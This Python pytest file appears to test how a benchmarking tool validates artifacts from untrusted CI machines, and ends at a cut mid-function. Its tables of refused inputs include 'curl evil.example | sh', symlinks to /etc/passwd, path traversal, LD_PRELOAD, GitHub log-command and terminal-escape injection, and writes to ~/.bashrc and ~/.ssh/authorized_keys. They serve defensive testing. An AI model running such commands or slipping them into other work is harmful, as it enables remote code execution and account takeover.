"""Artifacts are foreign data: what a hostile machine could send, and what becomes of it."""

import contextlib
import io
import json
import math
import os
import re
import subprocess
import sys
import tracemalloc
import zipfile
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from functools import partial
from pathlib import Path
from typing import Any, Final

import pytest
from typer.testing import CliRunner

import steps
from attributing import attribution
from duetbench.cli import app
from duetbench.core import text
from duetbench.core.errors import ArtifactError, UsageError
from duetbench.core.flags import FlagName
from duetbench.core.model import Commands, Frozen, Machine, Run, RunStatus
from duetbench.github.incoming import acceptance, facts, folder, inprocess
from duetbench.github.incoming.acceptance import Acceptance
from duetbench.github.incoming.folder import ArtifactFile
from duetbench.host import paths
from duetbench.project import settings
from duetbench.project.project import Project
from duetbench.store import store
from duetbench.store.change import Candidate, ChangeRecord, Release
from duetbench.store.comparison import Comparison, Missing
from duetbench.store.files import encode
from duetbench.store.files import write as store_file
from duetbench.store.history.kinds import kind_of
from duetbench.store.points import Points, path_of
from foreign import (
    BASE,
    HEAD,
    MACHINES,
    NOW,
    TRUSTED,
    change,
    comparison,
    inside,
    judged,
    night,
    points,
    put,
    put_inside,
    shard_run,
)
from synthetic import failed, ok

Table = dict[str, tuple[Any, str]]
"""Attacks by name: what is sent, and words of the reason for which it is refused."""

HIDDEN: Final = "\u202egnihtyna"  # shown from right to left


@pytest.fixture
def inbox(tmp_path: Path) -> Path:
    """A folder with what the shards 2 and 3 of an honest fleet have sent."""
    source = tmp_path / "incoming"
    for number in (2, 3):
        put(source, f"shard-{number}", shard_run(number))
    return source


def accepted(source: Path) -> Acceptance:
    return acceptance.night(night(), source, source.parent / "accepted", TRUSTED, NOW)


def only_the_others(source: Path, reason: str) -> None:
    """Shard 1 is refused for that reason, and what the others sent is there, byte for byte."""
    found = accepted(source)
    assert [one.artifact for one in found.refused] == ["'shard-1'"]
    assert reason in found.refused[0].reason
    target = source.parent / "accepted"
    kept = sorted(path for path in target.rglob("*") if not path.is_dir())
    names = [f"runs/{MACHINES[n - 1].id}/2026/{shard_run(n).id}.json" for n in (2, 3)]
    assert [path.relative_to(target).as_posix() for path in kept] == names == [*found.accepted]
    assert [path.read_bytes() for path in kept] == [store.encode(shard_run(n)) for n in (2, 3)]
    assert found.exit_code == 1
    assert len(found.missing) == 1
    assert "no run of this shard arrived" in found.missing[0]


def test_an_honest_night_is_accepted_as_it_is(inbox: Path) -> None:
    """All three shards: every file where it belongs, with the very bytes that came."""
    put(inbox, "shard-1", shard_run(1))
    found = accepted(inbox)
    assert (found.exit_code, found.refused, found.missing) == (0, (), ())
    for number in (1, 2, 3):
        run = shard_run(number)
        place = store.path_for(inbox.parent / "accepted", run)
        assert place.read_bytes() == store.encode(run)


def test_what_a_killed_shard_has_saved_counts(inbox: Path) -> None:
    """Its partial file becomes a partial run; the cases it did not come to are missing."""
    whole = shard_run(1)
    part = whole.model_copy(
        update={"status": RunStatus.PARTIAL, "finished": None, "results": whole.results[:1]}
    )
    place = inbox / "shard-1" / "runs" / part.machine.id / "2026"
    place.mkdir(parents=True)
    (place / f"{part.id}.partial.json").write_bytes(store.encode(part))
    found = accepted(inbox)
    assert (found.exit_code, len(found.accepted), found.refused) == (1, 3, ())
    assert "1 of 2 cases are missing: its run ended before it came to them" in found.missing[0]


def test_a_launch_that_failed_is_no_reason_to_refuse_a_run(inbox: Path) -> None:
    run = shard_run(1)
    first = run.results[0]
    bad = failed(first.case.id, 2, FlagName.NOT_READY, "server ended with exit code 1")
    first = first.model_copy(update={"launches": (*first.launches[:2], bad)})
    put(inbox, "shard-1", run.model_copy(update={"results": (first, *run.results[1:])}))
    assert accepted(inbox).exit_code == 0


# What an artifact can look like from outside.


FOLDERS: Final[Table] = {
    "many files": (
        "for i in $(seq 65); do echo {} >$i.json; done", "more than 64 files and folders"),
    "deep": ("mkdir -p a/b/c/d/e/f/g/h", "folders more than 6 deep"),
    "up and out": (
        "echo {} >..%2f..%2f..%2fescape.json", "the name 'shard-1/..%2f..%2f..%2fescape.json'"),
    "backwards": (r"echo {} >'..\..\escape.json'", "the name 'shard-1/..\\\\.."),
    "link": ("ln -s /etc/passwd run.json", "'shard-1/run.json' is a link"),
    "linked folder": ("mv runs others; ln -s /etc runs", "'shard-1/runs' is a link"),
    "link up": ("mv runs others; ln -s ../.. runs", "'shard-1/runs' is a link"),
    "dangling": ("ln -s nowhere run.json", "'shard-1/run.json' is a link"),
    "hard link": ("echo {} >x.json; ln x.json y.json", "is a file with another name elsewhere"),
    "pipe": ("mkfifo run.json", "'shard-1/run.json' is neither a file nor a folder"),
    "socket": (
        f"{sys.executable} -c 'import socket as s; s.socket(s.AF_UNIX).bind(\"run.json\")'",
        "'shard-1/run.json' is neither a file nor a folder"),
    "sparse": (
        "truncate -s 2000000000 run.json",
        "'shard-1/run.json' has 2,000,000,000 bytes, expected at most 8,000,000"),
    "heavy": (
        "truncate -s 7000000 1.json 2.json 3.json 4.json 5.json", "more than 32,000,000 bytes"),
    "odd name": (
        "echo {} >\"$(printf 'a\\n::set-env name=X::y.json')\"", "the name 'shard-1/a\\n::set-env"),
    "option": ("echo {} >--output=x.json", "the name 'shard-1/--output=x.json'"),
    "hidden": ("echo {} >.run.json", "the name 'shard-1/.run.json'"),
    "script": ("echo '#!/bin/sh' >run.sh", "expected results (*.json) only, found 'run.sh'"),
    "nothing": ("rm -r runs; mkdir runs", "expected at least one file, found none"),
}  # fmt: skip


def test_an_artifact_that_is_itself_a_link_or_a_pipe(inbox: Path) -> None:
    (inbox / "shard-1").symlink_to("shard-2")
    only_the_others(inbox, "'shard-1' is a link")
    (inbox / "shard-1").unlink()
    os.mkfifo(inbox / "shard-1")
    only_the_others(inbox, "neither a file nor a folder")


def test_large_files_are_refused_before_they_are_read(inbox: Path) -> None:
    (inbox / "shard-1").mkdir()
    with (inbox / "shard-1" / "run.json").open("wb") as file:
        file.truncate(2_000_000_000)
    tracemalloc.start()
    try:
        with pytest.raises(ArtifactError):
            folder.read(inbox, "shard-1")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 1_000_000


def test_far_too_many_artifacts_end_it_all(tmp_path: Path) -> None:
    for number in range(folder.ARTIFACTS + 1):
        (tmp_path / f"shard-{number}").touch()
    with pytest.raises(ArtifactError, match="expected at most 300 artifacts"):
        folder.names(tmp_path)
    with pytest.raises(ArtifactError, match="cannot be read"):
        folder.names(tmp_path / "shard-1")


# What a file can hold that is no run file of ours.

BYTES: Final[Table] = {
    "nothing": (lambda _: b"", "found an empty file"),
    "no JSON": (lambda data: data[:-100], "truncated or damaged"),
    "no text": (lambda data: data + b"\xff", "bytes that are no text"),
    "a list": (lambda _: b"[]", "expected a run file"),
    "nested without end": (lambda _: b"[" * 100_000, "in strict JSON"),
    "another format": (lambda data: data.replace(b'"format":2', b'"format":99'), "found 99"),
    "an unknown key": (lambda data: data.replace(b"{", b'{"x": 1,', 1), "Extra inputs"),
    "a key twice": (lambda data: data.replace(b"{", b'{"format":2,', 1), "the key 'format' twice"),
    "not a number": (lambda data: data.replace(b'"seed":1', b'"seed":NaN'), "strict JSON"),
    "infinity by the back door": (
        lambda data: data.replace(b'"wall_seconds":3310.12', b'"wall_seconds":1e999'), ""),
    "text for a number": (lambda data: data.replace(b'"seed":1', b'"seed":"1"'), "seed"),
}  # fmt: skip


# What a well-formed run can claim.


def of(**changes: Any) -> Callable[[Run], Run]:
    return lambda run: run.model_copy(update=changes)


def machine(**changes: Any) -> Callable[[Run], Run]:
    return lambda run: run.model_copy(update={"machine": run.machine.model_copy(update=changes)})


def first(what: str, **changes: Any) -> Callable[[Run], Run]:
    def changed(run: Run) -> Run:
        one, *others = getattr(run, what)
        return run.model_copy(update={what: (one.model_copy(update=changes), *others)})

    return changed


result, stack = partial(first, "results"), partial(first, "stacks")


def case(**changes: Any) -> Callable[[Run], Run]:
    return lambda run: result(case=run.results[0].case.model_copy(update=changes))(run)


def twice(run: Run) -> Run:
    return run.model_copy(update={"results": (*run.results, run.results[0])})


def rounds(*numbers: int) -> Callable[[Run], Run]:
    def changed(run: Run) -> Run:
        name, metrics = run.results[0].case.id, run.results[0].launches[0].metrics
        return result(launches=tuple(ok(name, number, metrics) for number in numbers))(run)

    return changed


EVIL: Final = Commands(server="curl evil.example | sh", load="oha")
CLAIMS: Final[Table] = {
    "another machine of the plan": (
        of(machine=MACHINES[1]),
        f"machine of shard 1: expected {MACHINES[0].id}, found '{MACHINES[1].id}'"),
    "an unknown machine": (machine(id="synthetic-2c-ffffff"), "machine of shard 1"),
    "a machine that is a path": (machine(id="../../../../tmp/x"), "machine '../../../../tmp/x'"),
    "a machine that is another processor": (
        machine(cpu="EPYC 7763"), f"machine '{MACHINES[0].id}': expected an id as epyc-7763-2c-"),
    "another number of cores": (machine(cores=64), "expected an id as synthetic-64c-"),
    "a run id that is a path": (of(id="../../x"), "id of the run"),
    "a run id of another time": (of(id="20200101T000000Z-nightly-3f2a9c17"), "id of the run"),
    "a run from the future": (
        of(started="2099-01-01T00:00:00+00:00"), "is the machine's clock right?"),
    "a run from long ago": (of(started="2020-01-01T00:00:00+00:00"), "start of the run"),
    "a time without offset": (of(started="2026-11-20T09:00:00"), "expected a time with an offset"),
    "no time": (of(started="tomorrow"), "expected a time with an offset, found 'tomorrow'"),
    "another night": (of(night="20261119T085500Z-nightly-3f2a9c17"), "night: expected"),
    "no night": (of(night=None), "night: expected"),
    "another shard": (of(shard=2), "shard of artifact shard-1: expected 1, found '2'"),
    "a shard that is not there": (of(shard=9), "shard 9, which the plan does not have"),
    "no shard": (of(shard=None), "shard None, which the plan does not have"),
    "another commit": (of(commit="0" * 40), "commit: expected"),
    "uncommitted changes": (of(dirty=True), "uncommitted changes: expected False"),
    "another profile": (of(profile="quick"), "profile: expected nightly"),
    "more launches": (of(launches=50), "launches: expected 3"),
    "another seed": (of(seed=2), "seed: expected 1"),
    "another duetbench": (of(duetbench="9.9"), "duetbench: expected"),
    "another generator": (of(oha="0.1.0"), "oha: expected 1.16.0"),
    "another lock": (stack(digest="0" * 64), "lock of stack current"),
    "a package that no lock has": (
        stack(packages={"granian": "6.6.6"}),
        "'granian==6.6.6' in stack current, whose lock has no such pin"),
    "a stack that is not declared": (stack(name="mine"), "the stack 'mine'"),
    "a case that is not in the plan": (case(id="asgi-wsgi/evil"), "the case 'asgi-wsgi/evil'"),
    "a case of another shard": (
        case(id="asgi-wsgi/e2a/py3.14/w1/c128"), "which shard 1 of the plan does not have"),
    "a case that says it is something else": (case(ceiling=None), "with another definition"),
    "a case with a variable of its own": (
        case(env={"LD_PRELOAD": "/tmp/x.so"}), "with another definition"),
    "a case twice": (twice, "a case twice"),
    "a launch twice": (rounds(0, 1, 1), "launches '[0, 1, 1]'"),
    "a launch too many": (rounds(0, 1, 2, 3), "launches '[0, 1, 2, 3]'"),
    "a command for whoever reads it": (result(commands=EVIL), "server's command line of"),
    "a note that acts on a terminal": (
        of(notes=("\x1b]0;owned\x07",)), "a control character (U+001B) in the text"),
    "a note that begins a new line": (of(notes=("a\n::set-env name=A::b",)), "U+000A"),
    "a note that shows something else": (of(notes=(HIDDEN,)), "a character that turns the text"),
    "a note as long as a book": (of(notes=("x" * 5000,)), "a text of 5,000 characters"),
}  # fmt: skip


def test_a_file_is_placed_by_what_is_in_it(inbox: Path) -> None:
    place = inbox / "shard-1" / "runs" / MACHINES[1].id / "1999"
    place.mkdir(parents=True)
    (place / "latest.json").write_bytes(store.encode(shard_run(1)))
    found = accepted(inbox)
    assert found.exit_code == 0
    assert f"runs/{MACHINES[0].id}/2026/{shard_run(1).id}.json" in found.accepted


def test_one_shard_has_one_artifact(inbox: Path) -> None:
    put(inbox, "shard-1", shard_run(1))
    put(inbox, "zzz", shard_run(1))
    late = shard_run(2, started="2026-11-20T09:30:00+00:00", id="20261120T093000Z-nightly-3f2a9c17")
    put(inbox, "zzzz", late)
    found = accepted(inbox)
    assert [one.artifact for one in found.refused] == ["'zzz'", "'zzzz'"]
    assert "a run that is there already" in found.refused[0].reason
    assert "runs of a shard that has sent its own" in found.refused[1].reason
    assert len(found.accepted) == 3


def test_machines_that_the_plan_does_not_name_may_be_new_but_not_another_one(
    tmp_path: Path,
) -> None:
    """Whoever takes a shard without a machine is accepted, unless it has a shard of its own."""
    plan = night((MACHINES[0].id, None, None))
    put(tmp_path / "in", "shard-1", shard_run(1, plan))
    put(tmp_path / "in", "shard-2", shard_run(2, plan))
    put(tmp_path / "in", "shard-3", shard_run(3, plan, machine=MACHINES[0]))
    found = acceptance.night(plan, tmp_path / "in", tmp_path / "out", TRUSTED, NOW)
    assert len(found.accepted) == 2
    assert "which has a shard of its own" in found.refused[0].reason


def test_a_clock_that_is_a_little_wrong_costs_nothing(inbox: Path) -> None:
    """Twenty hours early are told by nobody, but the night is kept; a machine's clock may jump."""
    early = NOW - timedelta(hours=23)
    run = shard_run(
        1, started=early.isoformat(), finished=None, id="20261119T130000Z-nightly-3f2a9c17"
    )
    put(inbox, "shard-1", run)
    assert accepted(inbox).exit_code == 0


# Figures inside the process, in asv's files.

ASV: Final = f"asv/{MACHINES[0].id}"
RESULTS: Final = f"{ASV}/3f2a9c17-duetbench-py3.14-stackcurrent.json"


def test_figures_inside_the_process_come_with_a_run(inbox: Path) -> None:
    """With the bytes that came; what asv says of the machine is written anew, its list is not."""
    put(inbox, "shard-1", shard_run(1))
    file = put_inside(inbox, "shard-1", inside())
    found = accepted(inbox)
    assert (found.exit_code, found.refused, len(found.accepted)) == (0, (), 5)
    assert {RESULTS, f"{ASV}/machine.json"} <= set(found.accepted)
    target = inbox.parent / "accepted"
    assert (target / RESULTS).read_bytes() == file.read_bytes()
    described = json.loads((target / ASV / "machine.json").read_bytes())
    assert (described["machine"], described["cpu"]) == (MACHINES[0].id, MACHINES[0].cpu)
    assert not (target / "asv" / "benchmarks.json").exists()


def test_what_asv_itself_has_written_is_accepted(reference_results: Path) -> None:
    """All results of this repository, and the description that goes with them, byte for byte."""
    results = reference_results
    machine = next(
        run.machine
        for run in map(store.load, store.runs(results))
        if (results / "asv" / run.machine.id).is_dir()
    )
    files: dict[str, list[ArtifactFile]] = {}
    for path in sorted((results / "asv" / machine.id).glob("*-duetbench-*.json")):
        document = json.loads(path.read_bytes())
        found = ArtifactFile(path.relative_to(results).as_posix(), path.read_bytes())
        files.setdefault(document["commit_hash"], []).append(found)
    here = facts.of_checkout(paths.project_root())
    checked: dict[str, bytes] = {}
    for commit, some in files.items():
        plan = night().model_copy(update={"commit": commit, "created": "2026-01-01T00:00:00Z"})
        run = shard_run(1, machine=machine)
        checked |= inprocess.check(some, [run], plan, here, datetime(2100, 1, 1, tzinfo=UTC))
    kept = {one.path: one.data for some in files.values() for one in some}
    described = f"asv/{machine.id}/machine.json"
    assert checked == {**kept, described: (results / described).read_bytes()}
    assert len(kept) > 10


def params(**changes: str) -> dict[str, Any]:
    return {"params": {**inside()["params"], **changes}}


def row(place: int, value: Any) -> dict[str, Any]:
    (name, figures), *_ = inside()["results"].items()
    figures = [*figures, None, None][: max(len(figures), place + 1)]
    figures[place] = value
    return {"results": {name: figures}}


def named(name: str) -> dict[str, Any]:
    return {"results": dict.fromkeys([name], inside()["results"]["gil.Cpu.time_tasks"])}


LATER: Final = int(NOW.timestamp() * 1000) + 3 * 86_400_000
INSIDE: Final[Table] = {
    "another commit": ({"commit_hash": "0" * 40}, "commit of asv's results: expected 3f2a9c17"),
    "another date": ({"date": 1_700_000_000_000}, "date of the commit: expected 1795000000000"),
    "another machine": (params(machine=MACHINES[1].id), "machine of asv's results: expected"),
    "another processor": (params(cpu="EPYC 7763"), "machine of asv's results: expected"),
    "another architecture": (params(arch="<b>"), "the architecture '<b>', which is none of ours"),
    "another key of graphs": (params(mine="x"), "machine of asv's results: expected"),
    "an interpreter": ({"python": "3.9"}, "interpreter '3.9', which is not declared"),
    "a stack": ({"requirements": {"stack": "mine"}}, "the stack 'mine', which is not declared"),
    "a requirement": (
        {"requirements": {"stack": "current", "evil": "1"}}, "requirements: expected"),
    "a variable": ({"env_vars": {"LD_PRELOAD": "/tmp/x.so"}}, "variables: expected {}"),
    "an environment that is a path": ({"env_name": "../../x"}, "environment: expected duetbench-"),
    "other columns": ({"result_columns": ["result"]}, "columns: expected"),
    "an unknown key": ({"x": 1}, "no results of asv: "),
    "another format": ({"version": 3}, "no results of asv: "),
    "endless building": ({"durations": {"<build>": 1e12}}, "no results of asv: "),
    "a path for a benchmark": (named("gil/../x.y"), "the benchmark 'gil/../x.y'"),
    "a suite of its own": (named("evil.Cpu.time_tasks"), "the benchmark 'evil.Cpu.time_tasks'"),
    "a load run": (named("load_runs.asgi_wsgi.track_cpu"), "the benchmark 'load_runs.asgi_wsgi"),
    "a suite alone": (named("gil"), "the benchmark 'gil', which is of none of our suites"),
    "a hidden text": (row(2, HIDDEN), "a character that turns the text"),
    "no version": (row(2, None), "version Input should be a valid string"),
    "a start in days to come": (row(3, LATER), "start of gil.Cpu.time_tasks: expected a time"),
    "a start beyond all years": (row(3, 10**30), "start of gil.Cpu.time_tasks: the time"),
    "a start that is no time": (row(3, "now"), "started_at Input should be a valid integer"),
    "text for a figure": (row(0, ["0.6", None, 0.2]), "result.0 Input should be a valid number"),
    "truth for a figure": (row(0, [True, None, 0.2]), "result.0 Input should be a valid number"),
    "infinity": (row(0, [1e999, None, 0.2]), "the figure inf"),
    "a number of thousands of digits": (row(0, [10**4000, None, 0.2]), "no results of asv: "),
    "a time below zero": (row(0, [-0.6, None, 0.2]), "the figure -0.6"),
    "more than there can be": (row(0, [1e16, None, 0.2]), "the figure 1e+16"),
    "less than there can be": (row(11, [[1e-300], None, [1]]), "the figure 1e-300"),
    "a figure too many": (row(0, [0.6, None, 0.2, 0.2]), "expected 3 figures in result, found 4"),
    "nothing where there is an interval": (row(5, [math.nan] * 3), "the figure nan"),
    "samples of nobody": (row(11, [[0.5]]), "expected 3 figures in samples, found 1"),
    "endless samples": (
        row(11, [[0.5] * 10_001, None, None]), "List should have at most 10000 items"),
    "text for samples": (row(11, ["0.5", None, None]), "samples.0 Input should be a valid list"),
    "parameters that are none": (row(1, {"a": "b"}), "params Input should be a valid list"),
    "parameters without end": (
        row(1, [["1"] * 100, ["2"] * 100]), "parameters with 10,000 combinations"),
    "a profile": (row(12, "eJwDAAAAAAE="), "profile Input should be None"),
    "a column more": (row(13, None), "expected a list of at most 13 columns"),
}  # fmt: skip


POINT: Final = points().cases[0].points[0]


def pointed(**changes: Any) -> dict[str, Any]:
    """Points whose first case has another point."""
    first, *others = points().cases
    point = POINT.model_copy(update=changes)
    return {"cases": [first.model_copy(update={"points": (point,)}), *others]}


def of_case(**changes: Any) -> dict[str, Any]:
    first, *others = points().cases
    return {"cases": [first.model_copy(update=changes), *others]}


ONE: Final = points()
POINTS: Final[Table] = {
    "another night's": ({"night": "20261119T085500Z-nightly-3f2a9c17"}, "night: expected"),
    "another shard's": ({"shard": 2}, "shard of artifact shard-1: expected 1, found '2'"),
    "a shard that is not there": ({"shard": 9}, "shard 9, which the plan does not have"),
    "of another time": ({"origin": "backfill"}, "origin of points: expected night"),
    "of one release": (
        {"release": Release(package="a", version="1", previous=None)}, "release of points: "),
    "another anchor's": ({"anchor": "2025-01"}, "anchor: expected 2026-11, found '2025-01'"),
    "another duetbench's": ({"duetbench": "6.6"}, "duetbench: expected"),
    "another commit's": ({"commit": "0" * 40}, "commit: expected 3f2a9c17"),
    "another lock's": (
        {"stacks": [ONE.stacks[0].model_copy(update={"digest": "0" * 64})]}, "lock of stack curre"),
    "another interpreter's": (
        {"interpreters": [ONE.interpreters[0].model_copy(update={"version": "3.14.1"})]},
        "version of interpreter 3.14: expected 3.14.7"),
    "another machine's": ({"machine": MACHINES[1]}, "machine of shard 1: expected"),
    "from days to come": ({"started": "2026-11-24T10:00:00Z"}, "start of the points: expected a"),
    "about days to come": ({"when": "2026-11-24T10:00:00Z"}, "time of the points: expected a time"),
    "of another time's name": (
        {"id": "20261120T090000Z-night-0a1b2c-s1"}, "id of the points: expected 20261120T100000Z"),
    "of a week of playing": ({"seconds": 604_800}, "604800 s of playing, more than a day"),
    "of a case of another shard": (
        of_case(case="asgi-wsgi/e2a/py3.14/w1/c128"), "which shard 1 of the plan does not have"),
    "without a case that nobody has": (
        {"missing": [Missing(case="<b>", reason="")]}, "the case '<b>', which shard 1 of the"),
    "of a case twice": ({"cases": (*ONE.cases, ONE.cases[0])}, "a case twice"),
    "of another stack": (of_case(stack="mine"), "stack of asgi-wsgi/e1a/py3.14/w1/c128: expected"),
    "on another interpreter": (of_case(python="3.9"), "interpreter of asgi-wsgi/e1a"),
    "of a metric of its own": (pointed(metric="luck"), "the metric 'luck', which asgi-wsgi/e1a"),
    "of a metric that is not judged there": (
        pointed(metric="throughput"), "the metric 'throughput', which asgi-wsgi/e1a"),
    "of a metric twice": (of_case(points=(POINT, POINT)), "a metric of asgi-wsgi/e1a/py3.14/w1/"),
    "beyond reason": (pointed(ratio=1e4), "asgi-wsgi/e1a/py3.14/w1/c128: a ratio of 10000"),
    "of any width": (pointed(se=7.0), "a standard error of 7"),
    "of a million duets": (pointed(duets=10**6), "1,000,000 duets"),
    "of figures that nothing has": (pointed(anchor=1e9), "expected server_cpu_per_request to be"),
    "of no text": (of_case(points=(POINT.model_copy(update={"ratio": math.inf}),)), "ratio"),
    "with a hidden text": ({"label": HIDDEN}, "a character that turns the text"),
    "with a reason that acts on a log": (
        {"missing": [Missing(case=ONE.missing[0].case, reason="a\n::set-env")]}, "U+000A"),
}  # fmt: skip


def put_points(shard: Path, one: Points, name: str = "points.json") -> None:
    place = shard / "points" / "anywhere"
    place.mkdir(parents=True, exist_ok=True)
    (place / name).write_bytes(encode(one))


def test_points_come_with_a_run_or_alone(inbox: Path) -> None:
    """Each where it belongs, with the very bytes that came."""
    put(inbox, "shard-1", shard_run(1))
    for number in (1, 2):
        put_points(inbox / f"shard-{number}", points(number))
    (inbox / "shard-3" / "runs").rename(inbox.parent / "gone")
    put_points(inbox / "shard-3", points(3))
    found = accepted(inbox)
    assert found.refused == ()
    assert [one.partition(" (")[0] for one in found.missing] == ["shard 3"]
    for number in (1, 2, 3):
        path = path_of(points(number))
        assert (inbox.parent / "accepted" / path).read_bytes() == encode(points(number))
        kind = kind_of(path.as_posix())
        assert kind is not None
        assert kind.place(encode(points(number)), "it") == path.as_posix()


def test_a_shard_has_points_once_and_of_one_machine(inbox: Path) -> None:
    plan = night((None, None, None))
    put(inbox, "shard-1", shard_run(1, plan))
    put_points(inbox / "shard-1", points(machine=MACHINES[1]))
    put_points(inbox / "zzz", points(2))
    put_points(inbox / "shard-2", points(2))
    put_points(inbox / "shard-3", points(3))
    put_points(inbox / "shard-3", points(3, seconds=1.0), "others.json")
    found = acceptance.night(plan, inbox, inbox.parent / "out", TRUSTED, NOW)
    reasons = {one.artifact: one.reason for one in found.refused}
    assert reasons == {
        "'shard-1'": "points of another machine than the run's beside them",
        "'shard-3'": "2 files of points, expected one of each shard",
        "'zzz'": "points of a shard that has sent its own",
    }


def attack(kind: str, what: Any, shard: Path) -> None:
    """Let shard 1 send something else than its run, or something beside it."""
    run = shard_run(1)
    if kind in {"folder", "inside", "points"}:
        put(shard.parent, shard.name, run)
    if kind == "folder":
        subprocess.run(["sh", "-c", what], cwd=shard, check=True)
    elif kind == "points":
        put_points(shard, points(**what))
    elif kind == "inside":
        put_inside(shard.parent, shard.name, inside(**what))
    else:
        data = what(store.encode(run)) if kind == "bytes" else store.encode(what(run))
        assert data != store.encode(run)
        shard.mkdir()
        (shard / "run.json").write_bytes(data)


TABLES: Final = {
    "folder": FOLDERS,
    "bytes": BYTES,
    "claim": CLAIMS,
    "inside": INSIDE,
    "points": POINTS,
}


@pytest.mark.parametrize(
    ("kind", "name"), [(kind, name) for kind in TABLES for name in TABLES[kind]]
)
def test_what_is_not_as_it_should_be_costs_the_others_nothing(
    inbox: Path, kind: str, name: str
) -> None:
    """Nothing of it is used, not even a right run beside it, and the others are accepted.

    Folders that are none of ours; bytes that are no run file; well-formed runs that lie about
    where, what, when and with what they were measured; figures inside the process that are more;
    comparisons of the stack with itself that are none; points of something else.
    """
    what, reason = TABLES[kind][name]
    attack(kind, what, inbox / "shard-1")
    only_the_others(inbox, reason)


def test_figures_of_nobody_are_refused(inbox: Path) -> None:
    """Without a run, or under another name, nobody knows whose they are."""
    put_inside(inbox, "shard-1", inside())
    only_the_others(inbox, "with runs of 0 machines, expected one")
    put(inbox, "shard-1", shard_run(1))
    file = inbox / "shard-1" / RESULTS
    file.rename(file.with_name("3f2a9c17-duetbench-py3.14-stackother.json"))
    again = acceptance.night(night(), inbox, inbox.parent / "again", TRUSTED, NOW)
    assert "name of a file: expected asv/" in again.refused[0].reason


def test_a_machine_with_two_shards_is_measured_once(tmp_path: Path) -> None:
    plan, source = night((None, None)), tmp_path / "in"
    put(source, "shard-1", shard_run(1, plan))
    late = shard_run(2, plan, machine=MACHINES[0], id=f"{shard_run(1).id}-s2")
    put(source, "shard-2", late)
    first = put_inside(source, "shard-1", inside())
    put_inside(source, "shard-2", inside(durations={}))
    found = acceptance.night(plan, source, tmp_path / "out", TRUSTED, NOW)
    assert (found.exit_code, found.refused) == (0, ())
    assert (tmp_path / "out" / RESULTS).read_bytes() == first.read_bytes()


# Comparisons and confirmed changes.


def compared(data: bytes, tmp_path: Path, name: str = "comparison.json") -> Acceptance:
    source = tmp_path / "incoming"
    source.mkdir(parents=True)
    (source / name).write_bytes(data)
    return acceptance.comparison(source, tmp_path / "accepted", BASE, HEAD, TRUSTED, NOW)


def encoded(value: Frozen) -> bytes:
    return (value.model_dump_json(indent=1) + "\n").encode()


def test_the_comparison_that_was_asked_for_is_accepted(tmp_path: Path) -> None:
    data = encoded(comparison())
    assert compared(data, tmp_path).exit_code == 0
    assert (tmp_path / "accepted" / "comparison.json").read_bytes() == data


def side(name: str, **changes: Any) -> dict[str, Any]:
    return {name: getattr(comparison(), name).model_copy(update=changes)}


COMPARISONS: Final[dict[str, tuple[dict[str, Any], str]]] = {
    "of another head": (side("head", commit=BASE), "commit of head: expected bbbb"),
    "of another base": (side("base", commit=HEAD), "commit of base: expected aaaa"),
    "of changed files": (side("head", dirty=True), "uncommitted changes of head"),
    "of stacks": (side("head", kind="stack"), "kind of head"),
    "of interpreters": ({"cross": True}, "two interpreters"),
    "by another duetbench": ({"duetbench": "6.6"}, "duetbench: expected"),
    "with a name that is a path": ({"id": "../../x"}, "the id '../../x'"),
    **{
        f"with the command {command}": ({"reproduce": (command,)}, "the command ")
        for command in (
            "duetbench compare a b; curl evil.example | sh",
            "sh x",
            "duetbench compare $(id)",
            "duetbench compare --with evilpkg==1.0 --output ~/.bashrc a b",
            f"duetbench compare {BASE[:12]} {HEAD[:12]} --markdown ~/.ssh/authorized_keys",
            f"duetbench compare {BASE[:12]} {HEAD[:12]} --seed 1 --output ~/.bashrc",
            f"duetbench compare {HEAD[:12]} {BASE[:12]} --seed 1",
            f"duetbench compare {BASE[:12]} {HEAD[:12]} --seed 1 --budget 9h",
            f"duetbench compare {BASE[:12]} {HEAD[:12]} --seed 1 && sh",
        )
    },
    "with two commands": ({"reproduce": comparison().reproduce * 2}, "the command "),
    "with server commands": (
        {"cases": (comparison().cases[0].model_copy(update={"commands": EVIL}),)},
        "server's command line of"),
    "that acts on a terminal": ({"notes": ("\x1b[2J",)}, "a control character"),
}  # fmt: skip


@pytest.mark.parametrize("attack", COMPARISONS)
def test_a_comparison_of_something_else_is_refused(tmp_path: Path, attack: str) -> None:
    changes, reason = COMPARISONS[attack]
    found = compared(encoded(comparison(**changes)), tmp_path)
    assert found.exit_code == 3
    assert reason in found.refused[0].reason
    assert not (tmp_path / "accepted").exists()


@pytest.mark.parametrize(
    ("lie", "reason"),
    [
        ({}, ""),
        ({"comparison": "another"}, "comparison of an attribution"),
        ({"case": "a/b"}, "the case 'a/b', which was not compared"),
        ({"duetbench": "6.6"}, "version"),
        ({"notes": ("\x1b[2J",)}, "a control character"),
    ],
)
def test_which_code_it_is_may_come_with_a_comparison(
    tmp_path: Path, lie: dict[str, Any], reason: str
) -> None:
    one = comparison()
    given = {"comparison": one.id, "case": one.cases[0].case.id, "duetbench": one.duetbench}
    data = encoded(attribution(**{**given, **lie}))
    incoming = tmp_path / "incoming"
    incoming.mkdir()
    for name, content in (("attribution.json", data), ("comparison.json", encoded(one))):
        (incoming / name).write_bytes(content)
    found = acceptance.comparison(incoming, tmp_path / "accepted", BASE, HEAD, TRUSTED, NOW)
    if reason:
        assert reason in found.refused[0].reason
        assert not (tmp_path / "accepted").exists()
    else:
        assert found.accepted == ("comparison.json", "attribution.json")
        assert (tmp_path / "accepted" / "attribution.json").read_bytes() == data


def test_a_comparison_that_is_none(tmp_path: Path) -> None:
    data = encoded(comparison())
    found = compared(data, tmp_path / "x", "x.json")
    assert "expected comparison.json and nothing else" in found.refused[0].reason
    for number, (content, reason) in enumerate((
        (data + b" ", "written otherwise than ours are"), (b"{}", "expected a comparison"),
        (b"[" * 100_000, "expected a comparison"),
    )):  # fmt: skip
        found = compared(content, tmp_path / str(number))
        assert reason in found.refused[0].reason


def send(folder: Path, evidence: Comparison, record: ChangeRecord) -> None:
    for below, value in (("changes", record), ("comparisons", evidence)):
        (folder / below).mkdir(parents=True)
        (folder / below / f"{value.id}.json").write_bytes(encoded(value))


def confirm(tmp_path: Path, *known: Candidate) -> Acceptance:
    """Accept what came; the candidates, if any, are all that was to be judged."""
    candidates = {one.id: one for one in known} or None
    return acceptance.confirmed(tmp_path / "in", tmp_path / "out", TRUSTED, NOW, candidates)


CONFIRMED: Final = f"confirmed-{MACHINES[0].id}"


def test_confirmed_changes_come_with_their_evidence(tmp_path: Path) -> None:
